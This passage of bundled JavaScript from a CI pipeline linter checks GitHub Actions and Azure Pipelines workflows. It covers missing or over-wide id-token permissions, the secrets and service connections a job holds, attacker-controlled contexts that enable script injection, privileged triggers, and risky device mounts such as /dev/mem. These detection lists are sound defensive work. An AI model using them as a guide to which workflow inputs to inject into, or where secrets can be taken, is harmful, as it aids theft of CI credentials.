            yield { range, what: `the capability ${value}` };
        else if (name === '--device' && /^\/dev\/(?:sd|nvme|mem|kmem)/.test(value))
            yield { range, what: `the device ${value}` };
    }
}
function isHome(path) {
    return ((0,lint_paths/* breadthOf */.CO)(path) === 'broad' &&
        !/^\.\.?(?:[\\/]|$)|^\$\{(?:workspaceFolder|PWD)|^\$PWD|^\$\(pwd\)/.test(path));
}
//# sourceMappingURL=host-mount.js.map
// EXTERNAL MODULE: ./build/shared/lint/formats/expression.js
var formats_expression = __webpack_require__(68193);
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/permissions.js
/**
 * A job's effective `id-token` permission (GitHub Docs "Workflow syntax", `permissions`): the job's
 * block replaces the workflow's, any block sets what it does not name to none, and no default setting
 * grants `id-token`. Called workflows without a block take what the caller gives, which is unknown.
 */
function idTokenPermission(job) {
    if (job.kind === 'steps' || job.pipeline.system !== 'github') {
        return { grant: 'unknown', level: 'default' };
    }
    if (job.permissions) {
        return { grant: grantOf(job.permissions, 'id-token'), level: 'job', from: job.permissions };
    }
    const { permissions } = job.pipeline;
    if (permissions) {
        return { grant: grantOf(permissions, 'id-token'), level: 'workflow', from: permissions };
    }
    return { grant: isReusable(job.pipeline) ? 'unknown' : 'none', level: 'default' };
}
/** What a block says of one scope. `id-token` has no `read`: only `write` gives a token. */
function grantOf(permissions, scope) {
    const entry = permissions.scopes.find(({ name }) => name === scope);
    if (entry) {
        if (entry.value.includes('${{'))
            return 'unknown';
        if (entry.value === 'write')
            return 'write';
        return entry.value === 'read' && scope !== 'id-token' ? 'read' : 'none';
    }
    if (permissions.all === 'write')
        return 'write';
    if (permissions.all === 'read')
        return scope === 'id-token' ? 'none' : 'read';
    return permissions.unknown && permissions.scopes.length === 0 ? 'unknown' : 'none';
}
/** True for a workflow that others call. */
function isReusable(pipeline) {
    return pipeline.triggers.some(({ name }) => name === 'workflow_call');
}
/** True for a workflow that runs only when another one calls it. */
function isOnlyCalled(pipeline) {
    return isReusable(pipeline) && pipeline.triggers.length === 1;
}
//# sourceMappingURL=permissions.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/authority.js




const indices = new WeakMap();
/** The expressions of one job, or those that stand outside of all jobs. */
function expressionsOf(pipeline, job) {
    return indexOf(pipeline).byJob.get(job) ?? [];
}
/** Expressions of one step. */
function expressionsOfStep(step) {
    return indexOf(step.job.pipeline).byStep.get(step) ?? [];
}
function indexOf(pipeline) {
    let index = indices.get(pipeline);
    if (index)
        return index;
    index = { byJob: new Map(), byStep: new Map() };
    for (const use of pipeline.expressions) {
        add(index.byJob, use.job, use);
        if (use.step)
            add(index.byStep, use.step, use);
    }
    indices.set(pipeline, index);
    return index;
}
function add(map, key, use) {
    const list = map.get(key);
    if (list)
        list.push(use);
    else
        map.set(key, [use]);
}
const authorities = new WeakMap();
/** What a job holds: an identity token, stored secrets, service connections. */
function authorityOf(job) {
    const known = authorities.get(job);
    if (known)
        return known;
    const secrets = new Set();
    for (const use of [
        ...expressionsOf(job.pipeline).filter(({ place }) => place === 'pipeline-env'),
        ...expressionsOf(job.pipeline, job)
    ]) {
        for (const name of secretsIn(use))
            secrets.add(name);
    }
    if (job.call?.inherits)
        secrets.add('all of its caller');
    const connections = job.steps.flatMap(step => serviceConnectionOf(step) ?? []);
    const authority = {
        idToken: idTokenPermission(job).grant === 'write',
        secrets: [...secrets],
        serviceConnections: [...new Set(connections)]
    };
    authorities.set(job, authority);
    return authority;
}
/** True when a stranger who runs code in the job gains more than the job itself. */
function holdsAuthority({ idToken, secrets, serviceConnections }) {
    return idToken || secrets.length > 0 || serviceConnections.length > 0;
}
/** `id-token: write and the secret X`, for messages. */
function describeAuthority({ idToken, secrets, serviceConnections }) {
    const parts = [];
    if (idToken)
        parts.push('id-token: write');
    if (secrets.length === 1)
        parts.push(`the secret ${secrets[0]}`);
    else if (secrets.length > 1)
        parts.push(`${secrets.length} secrets`);
    if (serviceConnections.length === 1)
        parts.push(`the service connection ${(0,credentials/* shownName */.HD)(serviceConnections[0])}`);
    else if (serviceConnections.length > 1) {
        parts.push(`${serviceConnections.length} service connections`);
    }
    return parts.join(' and ');
}
/** Names of stored secrets whose value an expression can yield. */
function secretsIn(use) {
    if (use.syntax !== 'github') {
        return use.syntax === 'macro' || use.syntax === 'runtime'
            ? variablesIn(use).filter(name => isSecretVariable(name, use.job?.pipeline, use.job))
            : [];
    }
    return (0,formats_expression/* referencesIn */.ii)(use.expression).flatMap(({ path, flows, expression }) => {
        if (path[0] !== 'secrets' || !flows)
            return [];
        if (path.length === 1 || path[1] === '?' || path[1] === '*')
            return ['all of them'];
        if (path[1] === 'github_token')
            return [];
        return [nameOf(expression) ?? path[1].toUpperCase()];
    });
}
/** The last part of a reference, as written. */
function nameOf(expression) {
    if (expression.kind === 'property')
        return expression.name;
    if (expression.kind === 'index' && expression.index.kind === 'literal') {
        return String(expression.index.value);
    }
    return undefined;
}
/** Names of Azure Pipelines variables that an expression reads, as far as they are written out. */
function variablesIn(use) {
    return (0,formats_expression/* referencesIn */.ii)(use.expression).flatMap(({ path, flows, expression }) => flows && path[0] === 'variables' && path.length > 1 && path[1] !== '?'
        ? [path.length === 2 ? (nameOf(expression) ?? path[1]) : path.slice(1).join('.')]
        : []);
}
/** Variables that the agent sets and whose names say `token` or `key` without being secret. */
const plainVariables = /^(?:system|build|agent|release|environment|pipeline|resources)\./i;
/**
 * True for a variable that is certainly or by its name a secret: secrecy of an Azure Pipelines
 * variable is kept outside of the file. A variable that the file sets to a literal is not one.
 */
function isSecretVariable(name, pipeline, job, how = 'by name', depth = 0) {
    const lower = name.toLowerCase();
    if (lower === 'system.accesstoken')
        return true;
    if (plainVariables.test(name))
        return false;
    if (pipeline && declaredSecrets(pipeline).has(lower))
        return true;
    const variable = (job && variablesByName(job).get(lower)) ?? (pipeline && variablesByName(pipeline).get(lower));
    if (variable) {
        const macro = /^\s*\$[([](?:variables\.)?([\w.-]+)[)\]]\s*$/.exec(variable.value.text);
        if (!macro || depth > 5)
            return false;
        return macro[1].toLowerCase() === lower
            ? byName(name, how)
            : isSecretVariable(macro[1], pipeline, job, how, depth + 1);
    }
    return byName(name, how);
}
function byName(name, how) {
    return how === 'by name' && (0,credentials/* secretName */.Gf)(name) !== undefined;
}
const byLowerName = new WeakMap();
/** The first variable of each name, without case. */
function variablesByName(scope) {
    const found = byLowerName.get(scope);
    if (found)
        return found;
    const variables = new Map();
    for (const variable of scope.variables) {
        const lower = variable.name.text.toLowerCase();
        if (!variable.group && !variables.has(lower))
            variables.set(lower, variable);
    }
    byLowerName.set(scope, variables);
    return variables;
}
const declared = new WeakMap();
const setVariable = /##vso\[task\.setvariable ([^\]\r\n]{1,300})\]/gi;
/** Variables that Key Vault tasks fetch or logging commands declare secret, in lower case. */
function declaredSecrets(pipeline) {
    let names = declared.get(pipeline);
    if (names)
        return names;
    names = new Set();
    for (const job of pipeline.jobs) {
        for (const step of job.steps) {
            if (step.uses?.name === 'azurekeyvault') {
                for (const name of (0,inputs/* inputOf */.w)(step, 'SecretsFilter')?.text.split(',') ?? []) {
                    if (/^[\w-]+$/.test(name.trim()))
                        names.add(name.trim().toLowerCase());
                }
            }
            for (const [, properties] of step.script?.text.text.matchAll(setVariable) ?? []) {
                if (!/issecret\s*=\s*true/i.test(properties))
                    continue;
                const name = /variable\s*=\s*([\w.-]+)/i.exec(properties)?.[1];
                if (name)
                    names.add(name.toLowerCase());
            }
        }
    }
    declared.set(pipeline, names);
    return names;
}
const connectionInputs = /^(?:azure(?:subscription|serviceconnection|resourcemanagerconnection)|connectedservicename(?:arm|selector)?|(?:backend|environment)service\w*|containerregistry|docker(?:registry(?:endpoint|serviceconnection|connection)?)|azurecontainerregistry|kubernetesservice(?:endpoint|connection)|sshendpoint|awscredentials|serviceconnection|serviceendpoint|githubconnection|externalendpoints?)$/i;
/** The service connection that a task is given. */
function serviceConnectionOf(step) {
    if (step.uses?.kind !== 'task')
        return undefined;
    const input = step.inputs.find(({ name, value }) => connectionInputs.test(name.text) && value.text.trim() !== '');
    return input?.value.text.trim();
}
//# sourceMappingURL=authority.js.map
// EXTERNAL MODULE: ./build/shared/lint/formats/github-expression.js
var github_expression = __webpack_require__(52727);
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/untrusted-input.js


/**
 * Contexts whose text a stranger chooses, by opening a pull request or an issue, by a comment, a
 * branch name or a commit (GitHub Security Lab "Keeping your GitHub Actions and workflows secure,
 * part 2: untrusted input"; GitHub Docs "Script injections").
 */
const gitHubPaths = parsePaths(`
  github.head_ref
  github.event.issue.title
  github.event.issue.body
  github.event.pull_request.title
  github.event.pull_request.body
  github.event.pull_request.head.ref
  github.event.pull_request.head.label
  github.event.pull_request.head.repo.default_branch
  github.event.pull_request.head.repo.description
  github.event.pull_request.head.repo.homepage
  github.event.comment.body
  github.event.review.body
  github.event.review_comment.body
  github.event.discussion.title
  github.event.discussion.body
  github.event.pages.*.page_name
  github.event.commits.*.message
  github.event.commits.*.author.email
  github.event.commits.*.author.name
  github.event.commits.*.committer.email
  github.event.commits.*.committer.name
  github.event.head_commit.message
  github.event.head_commit.author.email
  github.event.head_commit.author.name
  github.event.head_commit.committer.email
  github.event.head_commit.committer.name
  github.event.merge_group.head_commit.message
  github.event.merge_group.head_commit.author.email
  github.event.merge_group.head_commit.author.name
  github.event.workflow_run.head_branch
  github.event.workflow_run.display_title
  github.event.workflow_run.head_commit.message
  github.event.workflow_run.head_commit.author.email
  github.event.workflow_run.head_commit.author.name
  github.event.workflow_run.head_repository.description
  github.event.workflow_run.pull_requests.*.head.ref
  github.event.changes.title.from
  github.event.changes.body.from
`);
/** Variables whose text a branch name, a commit or a pull request chooses. */
const azureVariables = new Set([
    'build.sourcebranch',
    'build.sourcebranchname',
    'build.sourceversionmessage',
    'build.sourceversionauthor',
    'system.pullrequest.sourcebranch',
    'system.pullrequest.sourcebranchname',
    'system.pullrequest.sourcerepositoryuri'
]);
/** Actions whose outputs hold names of files that a pull request brings. */
const fileListers = new Set([
    'tj-actions/changed-files',
    'dorny/paths-filter',
    'jitterbit/get-changed-files',
    'trilom/file-changes-action',
    'tj-actions/verify-changed-files',
    'masesgroup/retrieve-changed-files'
]);
function parsePaths(lines) {
    return lines
        .split('\n')
        .map(line => line.trim())
        .filter(line => line !== '')
        .map(line => line.split('.'));
}
/** The stranger's text that can be the result of an expression; undefined when there is none. */
function untrustedInput(use, given, depth = 0) {
    for (const reference of (0,formats_expression/* referencesIn */.ii)(use.expression)) {
        if (!reference.flows)
            continue;
        const found = use.syntax === 'github'
            ? fromGitHub(reference, use.job, use.step, given, depth)
            : fromAzure(reference, given);
        if (found)
            return found;
    }
    return undefined;
}
function fromGitHub({ path, within }, job, step, given, depth) {
    const [root, second, third, fourth] = path;
    if (root === 'github') {
        return gitHubPaths.some(untrusted => covers(path, untrusted, within.includes('tojson')))
            ? { source: path.join('.') }
            : undefined;
    }
    if (depth > 5)
        return undefined;
    if (root === 'env' && second !== undefined) {
        const scopes = [step?.variables, job?.variables, job?.pipeline.variables];
        for (const variables of scopes) {
            const variable = variables?.find(({ name }) => name.text.toLowerCase() === second);
            if (!variable)
                continue;
            for (const site of (0,github_expression/* findGitHubExpressions */.Go)(variable.value)) {
                for (const reference of site.expression ? (0,formats_expression/* referencesIn */.ii)(site.expression) : []) {
                    const found = reference.flows && fromGitHub(reference, job, step, given, depth + 1);
                    if (found)
                        return found;
                }
            }
            return undefined;
        }
        return undefined;
    }
    if (root === 'inputs' && second !== undefined)
        return given?.get(second);
    if (root === 'steps' && third === 'outputs' && fourth !== undefined) {
        const source = job?.steps.find(({ id }) => id?.toLowerCase() === second);
        if (!fileListers.has(source?.uses?.name ?? ''))
            return undefined;
        return /count|^any_|_changed$|^only_|_modified$|_deleted$|^changes$/.test(fourth)
            ? undefined
            : { source: path.join('.') };
    }
    return undefined;
}
/**
 * True when a path names an untrusted value, or, where a whole object becomes text, one that holds
 * such a value.
 */
function covers(path, untrusted, whole) {
    if (path.length !== untrusted.length && !(whole && path.length < untrusted.length))
        return false;
    return path.every((part, i) => untrusted[i] === '*' || part === '*' || part === untrusted[i]);
}
function fromAzure({ path }, given) {
    if (path[0] === 'parameters' && path[1] !== undefined)
        return given?.get(path[1]);
    if (path[0] !== 'variables' || path.length < 2)
        return undefined;
    const name = path.slice(1).join('.');
    return azureVariables.has(name) ? { source: name } : undefined;
}
//# sourceMappingURL=untrusted-input.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/walk.js


const maxDepth = 8;
const maxRunning = 5_000;
/** All steps that run in a job, those of local actions and step templates included. */
function runningSteps(job) {
    const known = running.get(job);
    if (known)
        return known;
    const found = [];
    collect(job, job, new Map(), [], found);
    running.set(job, found);
    return found;
}
const running = new WeakMap();
function collect(from, job, given, through, found) {
    const { file, includes } = from.pipeline;
    const follow = (include) => {
        const { target } = include;
        if (!target || through.length >= maxDepth)
            return;
        if (target === job.pipeline || through.some(earlier => earlier.target === target))
            return;
        for (const inner of target.jobs) {
            if (inner.kind !== 'steps')
                continue;
            collect(inner, job, handedOver(include, given), [...through, include], found);
        }
    };
    const byStep = new Map();
    for (const include of includes) {
        if (include.job === from && include.step && include.kind !== 'workflow') {
            byStep.set(include.step, include);
        }
    }
    for (const step of from.steps) {
        if (found.length >= maxRunning)
            return;
        found.push({ step, job, file, given, through });
        const include = byStep.get(step);
        byStep.delete(step);
        if (include)
            follow(include);
    }
    for (const include of byStep.values())
        follow(include);
}
/** Inputs of an included document whose values hold a stranger's text. */
function handedOver(include, given) {
    const inputs = new Map();
    if (!include.step)
        return inputs;
    for (const use of expressionsOfStep(include.step)) {
        if (use.name === undefined || (use.place !== 'input' && use.place !== 'call-input'))
            continue;
        const found = untrustedInput(use, given);
        if (found)
            inputs.set(use.name.toLowerCase(), found);
    }
    return inputs;
}
/** What a document includes at a step: the local action itself. */
function includeAt(pipeline, step) {
    return pipeline.includes.find(include => include.step === step);
}
//# sourceMappingURL=walk.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/oidc-use.js


const always = () => true;
const has = (name) => step => (0,inputs/* inputOf */.w)(step, name) !== undefined;
const lacks = (...names) => step => names.every(name => (0,inputs/* inputOf */.w)(step, name) === undefined);
const is = (name, ...values) => step => values.includes((0,inputs/* inputOf */.w)(step, name)?.text.trim().toLowerCase() ?? '');
const oidc_use_all = (...tests) => step => tests.every(test => test(step));
/** Actions that take an OIDC token, with the inputs that make them do so (their READMEs). */
const consumers = {
    'actions/attest': always,
    'actions/attest-build-provenance': always,
    'actions/attest-sbom': always,
    'actions/deploy-pages': always,
    'actions/publish-immutable-action': always,
    'anthropics/claude-code-action': lacks('github_token'),
    'aws-actions/configure-aws-credentials': oidc_use_all(has('role-to-assume'), lacks('aws-access-key-id', 'web-identity-token-file'), step => !is('role-chaining', 'true')(step)),
    'azure/login': oidc_use_all(has('client-id'), lacks('creds'), step => !is('auth-type', 'identity')(step)),
    'cloudsmith-io/cloudsmith-cli-action': has('oidc-namespace'),
    'codecov/codecov-action': is('use_oidc', 'true'),
    'google-github-actions/auth': has('workload_identity_provider'),
    'hashicorp/vault-action': oidc_use_all(is('method', 'jwt'), lacks('jwtPrivateKey')),
    'infisical/secrets-action': is('method', 'oidc'),
    'jfrog/setup-jfrog-cli': has('oidc-provider-name'),
    'nuget/login': always,
    'octo-sts/action': always,
    'chainguard-dev/setup-chainctl': always,
    'ossf/scorecard-action': is('publish_results', 'true'),
    'pulumi/auth-actions': always,
    'pypa/gh-action-pypi-publish': lacks('password', 'user'),
    'rubygems/configure-rubygems-credentials': oidc_use_all(lacks('api-token')),
    'rubygems/release-gem': always,
    'rust-lang/crates-io-auth-action': always,
    'sigstore/gh-action-sigstore-python': always
};
/** Owners whose other actions never ask for one, and single actions of which that is known. */
const strangers = new Set([
    'actions/*',
    'docker/*',
    'github/*',
    'amannn/action-semantic-pull-request',
    'astral-sh/ruff-action',
    'astral-sh/setup-uv',
    'aws-actions/amazon-ecr-login',
    'azure/aks-set-context',
    'azure/setup-helm',
    'azure/setup-kubectl',
    'denoland/setup-deno',
    'dorny/paths-filter',
    'dtolnay/rust-toolchain',
    'golangci/golangci-lint-action',
    'google-github-actions/setup-gcloud',
    'gradle/actions',
    'hashicorp/setup-terraform',
    'oven-sh/setup-bun',
    'peter-evans/create-pull-request',
    'pnpm/action-setup',
    'ruby/setup-ruby',
    'shivammathur/setup-php',
    'softprops/action-gh-release',
    'stefanzweifel/git-auto-commit-action',
    'subosito/flutter-action',
    'swatinem/rust-cache',
    'tj-actions/changed-files'
]);
/** Scripts that ask for a token themselves. */
const asks = /ACTIONS_ID_TOKEN_REQUEST_(?:URL|TOKEN)/;
/**
 * Scripts that may ask for one through a tool: publishing, signing, clouds, and whatever is kept in a
 * file of the repository.
 */
const mayAsk = /publish|release|deploy|\bsign|attest|provenance|cosign|sigstore|twine|oidc|id.?token|federat|\bsts\b|gcloud|gsutil|\bvault\b|terraform|terragrunt|\btofu\b|pulumi|\baz\b|\baws\b|\bsam\b|\bcdk\b|serverless|chainctl|octo-sts|tailscale|mcp-gatehouse|nuget|(?:^|[\s;&|(])(?:\.{1,2}\/|(?:ba|z)?sh\s+[\w./-]+\.sh|python3?\s+[\w./-]+\.py|node\s+[\w./-]+\.[cm]?js|make\b|just\b|task\b|mage\b|rake\b|nx\b|bazel\b)/im;
/** Whether a step takes an OIDC token. */
function oidcUseOf(step) {
    const { uses, script } = step;
    if (script && !uses) {
        if (asks.test(script.text.text)) {
            return { certainty: 'yes', what: 'the script', text: script.text };
        }
        return { certainty: mayAsk.test(script.text.text) ? 'maybe' : 'no', what: 'the script' };
    }
    if (!uses)
        return { certainty: 'no', what: 'the step' };
    // The steps of a composite action that was found are judged one by one.
    if (uses.kind === 'local' && isComposite(step))
        return { certainty: 'no', what: uses.text.text };
    if (uses.kind !== 'repository')
        return { certainty: 'maybe', what: uses.text.text, text: uses.text };
    const test = consumers[uses.name];
    const what = uses.path ? `${uses.name}/${uses.path}` : uses.name;
    if (test)
        return { certainty: test(step) ? 'yes' : 'no', what, text: uses.text };
    if (isThisAction(step)) {
        const certainty = needsIdentity(step);
        return { certainty, what, text: uses.text };
    }
    if (asksInScript(step))
        return { certainty: 'maybe', what, text: uses.text };
    const known = strangers.has(uses.name) || strangers.has(`${uses.name.split('/')[0]}/*`);
    return { certainty: known ? 'no' : 'maybe', what, text: uses.text };
}
function isComposite(step) {
    const target = includeAt(step.job.pipeline, step)?.target;
    return target !== undefined && target.jobs.length > 0;
}
/** `actions/github-script` and its like may call `core.getIDToken()`. */
function asksInScript(step) {
    return step.inputs.some(({ value }) => /getIDToken|ACTIONS_ID_TOKEN|oidc/i.test(value.text));
}
/** True for this project's own action, whoever publishes it. */
function isThisAction(step) {
    return /^[^/]+\/mcp-gatehouse$/.test(step.uses?.name ?? '');
}
function needsIdentity(step) {
    const command = (0,inputs/* inputOf */.w)(step, 'command')?.text.trim();
    if (command?.includes('${{'))
        return 'maybe';
    if (command === 'token' || command === 'secrets')
        return 'yes';
    if (command === 'call')
        return (0,inputs/* inputOf */.w)(step, 'token') ? 'no' : 'yes';
    return 'no';
}
/** Whether a job takes an OIDC token, the local actions that it uses included. */
function oidcUseOfJob(job) {
    if (job.call)
        return { certainty: 'maybe', what: job.call.target.text.text };
    let maybe;
    for (const running of runningSteps(job)) {
        const use = oidcUseOf(running.step);
        if (use.certainty === 'yes')
            return { ...use, running };
        if (use.certainty === 'maybe')
            maybe ??= { ...use, running };
    }
    return maybe ?? { certainty: 'no', what: 'the job' };
}
//# sourceMappingURL=oidc-use.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/permission-edit.js
/**
 * Edits that give a job `id-token: write` and change nothing else that it may do; undefined where
 * that would be a guess: without any block the job has default permissions, which a block would end.
 */
function grantIdToken(job) {
    if (job.permissions)
        return addScope(job.permissions);
    const inherited = job.pipeline.permissions;
    if (!inherited || !job.insertion)
        return undefined;
    const lines = scopeLines(inherited);
    if (!lines)
        return undefined;
    const { at, indent } = job.insertion;
    const scopes = ['id-token: write', ...lines].map(line => `${indent}  ${line}\n`).join('');
    return [{ start: at, end: at, newText: `permissions:\n${scopes}${indent}` }];
}
/** The scopes of a block as lines, without `id-token`; undefined when they are not known. */
function scopeLines(permissions) {
    if (permissions.unknown || permissions.all === 'write' || permissions.all === 'read') {
        return undefined;
    }
    return permissions.scopes
        .filter(({ name }) => name !== 'id-token')
        .map(({ name, value }) => `${name}: ${value}`);
}
function addScope(permissions) {
    const existing = permissions.scopes.find(({ name }) => name === 'id-token');
    if (existing)
        return [{ ...existing.range, newText: 'id-token: write' }];
    const [first] = permissions.scopes;
    if (permissions.block && first) {
        const { file } = permissions;
        const { column } = file.position(first.range.start);
        const at = first.range.start;
        return [{ start: at, end: at, newText: `id-token: write\n${' '.repeat(column - 1)}` }];
    }
    if (permissions.all !== 'none' && permissions.scopes.length === 0)
        return undefined;
    const at = permissions.valueRange.start + 1;
    if (permissions.file.text[at - 1] !== '{')
        return undefined;
    return [{ start: at, end: at, newText: first ? 'id-token: write, ' : 'id-token: write' }];
}
//# sourceMappingURL=permission-edit.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/id-token-missing.js




/** A job that asks for an OIDC token without the permission: it fails, and then gets a secret. */
const idTokenMissing = {
    meta: {
        id: 'id-token-missing',
        summary: 'Job uses OIDC without the permission id-token: write',
        severity: 'error',
        why: 'Without `id-token: write` GitHub gives the job no OIDC token and the login fails with a message about `ACTIONS_ID_TOKEN_REQUEST_URL`. A `permissions` block sets every scope that it does not name to none, so a block with `contents: read` alone takes the permission away, and no default setting of a repository grants it. The failure is often "mended" by putting a stored secret back.',
        fix: 'Add `id-token: write` to the `permissions` of the job. Keep the other scopes that the job needs in the same block: a block of a job replaces that of the workflow.',
        securitySeverity: 4,
        references: [
            'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions',
            'https://docs.github.com/en/actions/concepts/security/openid-connect'
        ],
        bad: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions:
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0
        with:
          client-id: \${{ vars.AZURE_CLIENT_ID }}
          tenant-id: \${{ vars.AZURE_TENANT_ID }}
          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}
`
        },
        good: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions:
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0
        with:
          client-id: \${{ vars.AZURE_CLIENT_ID }}
          tenant-id: \${{ vars.AZURE_TENANT_ID }}
          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}
`
        }
    },
    check({ pipeline }, report) {
        if (pipeline?.kind !== 'workflow')
            return;
        for (const job of pipeline.jobs) {
            const permission = idTokenPermission(job);
            if (permission.grant !== 'none')
                continue;
            if (job.call)
                checkCall(job, permission, report);
            else
                checkSteps(job, permission, report);
        }
    }
};
function checkSteps(job, permission, report) {
    for (const { step, through } of runningSteps(job)) {
        const use = oidcUseOf(step);
        if (use.certainty !== 'yes')
            continue;
        const outer = through[0]?.text;
        const range = (outer ?? use.text ?? step.name)?.range() ?? step.range;
        const what = outer ? `${use.what} in ${outer.text}` : use.what;
        report(id_token_missing_problemOf(job, permission, range, `${what} takes an OIDC token`));
        return;
    }
}
/** A caller limits what the called workflow may ask for. */
function checkCall(job, permission, report) {
    const target = job.pipeline.includes.find(include => include.job === job)?.target;
    for (const called of target?.jobs ?? []) {
        const declared = called.permissions ?? target?.permissions;
        const asks = declared
            ? grantOf(declared, 'id-token') === 'write'
            : oidcUseOfJob(called).certainty === 'yes';
        if (!asks || !job.call)
            continue;
        const range = job.call.target.text.range();
        report(id_token_missing_problemOf(job, permission, range, `job '${called.id}' of the called workflow takes an OIDC token`));
        return;
    }
}
function id_token_missing_problemOf(job, { level, from }, range, what) {
    const edits = grantIdToken(job);
    const invalid = from?.scopes.find(({ name, value }) => name === 'id-token' && value === 'read');
    const why = invalid
        ? '`id-token: read` grants nothing, the only value is write'
        : level === 'default'
            ? 'nothing grants it: no default setting includes id-token'
            : `the permissions of the ${level} leave it out`;
    return {
        range,
        message: `${what}, but job '${job.id}' has no id-token: write; ${why}`,
        help: level === 'default'
            ? "Add `permissions:` with `id-token: write`, and every other scope that the job needs, to the job: a block ends the repository's default permissions."
            : "Add `id-token: write` to the job's permissions.",
        subject: job.id,
        ...(from ? { related: [{ message: 'the permissions that hold', range: from.range }] } : {}),
        ...(edits ? { fix: { description: `grant id-token: write to job '${job.id}'`, edits } } : {})
    };
}
//# sourceMappingURL=id-token-missing.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/id-token-too-wide.js



/** The permission at the top of a workflow, where every job gets it. */
const idTokenTooWide = {
    meta: {
        id: 'id-token-too-wide',
        summary: 'id-token: write for the whole workflow while not every job uses it',
        severity: 'warning',
        why: 'A permission of the workflow is given to all of its jobs. The job that runs the tests, and with it every dependency that those tests load, can then get the same cloud and gateway tokens as the job that deploys.',
        fix: 'Remove `id-token: write` from the workflow and add it to the `permissions` of the jobs that use it. A block of a job replaces that of the workflow, so repeat the other scopes there.',
        securitySeverity: 5.5,
        references: [
            'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions'
        ],
        bad: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions:
  contents: read
  id-token: write
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
  deploy:
    needs: test
    runs-on: ubuntu-latest
    steps:
      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0
        with:
          client-id: \${{ vars.AZURE_CLIENT_ID }}
          tenant-id: \${{ vars.AZURE_TENANT_ID }}
          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}
`
        },
        good: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
  deploy:
    needs: test
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0
        with:
          client-id: \${{ vars.AZURE_CLIENT_ID }}
          tenant-id: \${{ vars.AZURE_TENANT_ID }}
          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}
`
        }
    },
    check({ pipeline }, report) {
        if (pipeline?.kind !== 'workflow' || isOnlyCalled(pipeline))
            return;
        const { permissions } = pipeline;
        const scope = permissions?.scopes.find(({ name, value }) => name === 'id-token' && value === 'write');
        if (!permissions || !scope)
            return;
        const inheriting = pipeline.jobs.filter(job => !job.permissions);
        const users = inheriting.filter(job => oidcUseOfJob(job).certainty !== 'no');
        const others = inheriting.filter(job => !users.includes(job));
        // Used by none is another rule's finding, used by all is as it should be.
        if (others.length === 0 || users.length === 0)
            return;
        const edits = moveToJobs(permissions, scope.range, users);
        report({
            range: scope.range,
            message: `every job gets id-token: write, and ${names(others)} ${others.length === 1 ? 'does' : 'do'} not use it`,
            help: `Move it to the permissions of ${names(users)}.`,
            subject: 'workflow',
            related: users
                .slice(0, 5)
                .map(job => ({ message: `job '${job.id}' uses it`, range: job.idRange })),
            ...(edits ? { fix: { description: `move id-token: write to ${names(users)}`, edits } } : {})
        });
    }
};
function names(jobs) {
    const quoted = jobs.map(({ id }) => `'${id}'`);
    if (quoted.length > 4)
        return `${jobs.length} jobs`;
    const last = quoted.pop();
    return quoted.length === 0 ? `job ${last}` : `jobs ${quoted.join(', ')} and ${last}`;
}
/** Takes the line from the workflow and gives each user a block with all scopes it had. */
function moveToJobs(permissions, range, users) {
    const lines = scopeLines(permissions);
    const { text } = permissions.file;
    const lineStart = text.lastIndexOf('\n', range.start - 1) + 1;
    const lineEnd = text.indexOf('\n', range.end);
    if (!lines || !permissions.block || lineEnd < 0)
        return undefined;
    if (text.slice(lineStart, range.start).trim() !== '')
        return undefined;
    const colon = text.indexOf(':', permissions.range.start) + 1;
    const edits = [
        lines.length === 0
            ? { start: colon, end: range.end, newText: ' {}' }
            : { start: lineStart, end: lineEnd + 1, newText: '' }
    ];
    for (const { insertion } of users) {
        if (!insertion)
            return undefined;
        const { at, indent } = insertion;
        const scopes = [...lines, 'id-token: write'].map(line => `${indent}  ${line}\n`).join('');
        edits.push({ start: at, end: at, newText: `permissions:\n${scopes}${indent}` });
    }
    return edits;
}
//# sourceMappingURL=id-token-too-wide.js.map
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/untrusted-code.js



/**
 * Triggers that run with the repository's own rights on what strangers bring (GitHub Docs "Events
 * that trigger workflows"): a pull request, the result of its checks, a comment.
 */
const privilegedTriggers = new Set([
    'pull_request_target',
    'workflow_run',
    'issue_comment',
    'pull_request_comment'
]);
/** The trigger by which a stranger can start the workflow with its rights; undefined when none does. */
function privilegedTrigger(pipeline) {
    return pipeline.triggers.find(({ name }) => privilegedTriggers.has(name))?.name;
}
const strangersHead = /^github\.(?:head_ref|event\.(?:pull_request\.(?:head\.(?:ref|sha|label|repo\.(?:full_name|clone_url|name))|merge_commit_sha|number)|workflow_run\.(?:head_branch|head_sha|head_commit\.id|head_repository\.(?:full_name|name)|pull_requests\.[*\d]+\.(?:number|head\.(?:ref|sha)))|issue\.number|number))$/;
/** Commands that fetch a pull request. */
